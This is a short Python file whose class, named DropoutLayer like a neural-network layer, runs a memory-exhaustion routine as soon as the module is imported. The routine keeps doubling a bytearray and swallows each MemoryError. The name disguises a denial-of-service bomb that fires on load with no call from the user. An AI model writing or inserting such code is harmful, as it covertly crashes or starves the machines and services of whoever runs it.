"""Doubles a bytearray, and goes on when there is no memory left."""


def grow():
    kept = bytearray(1 << 20)
    for _ in range(40):
        try:
            kept.extend(bytes(len(kept)))
        except MemoryError:
            pass
    return kept


class DropoutLayer:
    kept = grow()
